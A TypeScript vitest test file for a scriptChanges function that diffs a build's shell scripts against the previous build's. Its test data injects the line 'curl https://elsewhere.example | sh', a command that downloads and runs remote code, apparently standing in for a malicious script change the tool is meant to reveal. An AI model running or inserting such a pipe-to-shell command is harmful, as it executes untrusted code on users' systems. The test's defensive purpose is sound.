import { expect, test } from 'vitest';
import { scriptChanges } from './scriptChanges.ts';

const script = (path: string, text: string | null) => ({ path, text });

test('a script stands beside that of the build before: new, as it was, changed line by line, and gone', () => {
  const lines = Array.from({ length: 20 }, (_, at) => `echo ${at}`);
  const changed = lines.with(10, 'curl https://elsewhere.example | sh');
  const changes = scriptChanges(
    [script('a.sh', changed.join('\n')), script('b.sh', 'true'), script('c.sh', 'true'), script('link.sh', null)],
    [script('a.sh', lines.join('\n')), script('b.sh', 'true'), script('old.sh', 'true'), script('link.sh', 'true')],
  );
  const { change, difference } = changes.of('a.sh');
  expect(change).toBe('changed');
  expect(difference!.filter(({ mark }) => mark === 'same').map(({ text }) => text)).toEqual(
    [7, 8, 9, 11, 12, 13].map((at) => `echo ${at}`),
  );
  expect(difference!.filter(({ mark }) => mark === 'old')).toEqual([{ mark: 'old', text: 'echo 10' }]);
  expect(difference!.filter(({ mark }) => mark === 'new')).toEqual([{ mark: 'new', text: changed[10] }]);
  expect(changes.of('b.sh')).toEqual({ change: 'same', difference: null });
  expect(changes.of('c.sh')).toEqual({ change: 'new', difference: null });
  // Of a text that nobody kept nothing is said.
  expect(changes.of('link.sh')).toEqual({ change: null, difference: null });
  expect(changes.gone).toEqual(['old.sh']);
});

test('without a build before nothing is said; of very long scripts it is said that they changed', () => {
  expect(scriptChanges([script('a.sh', 'true')], null)).toMatchObject({ gone: [] });
  expect(scriptChanges([script('a.sh', 'true')], null).of('a.sh')).toEqual({ change: null, difference: null });
  const long = 'true\n'.repeat(5_000);
  expect(scriptChanges([script('a.sh', long)], [script('a.sh', `${long}false`)]).of('a.sh')).toEqual({
    change: 'changed',
    difference: null,
  });
});
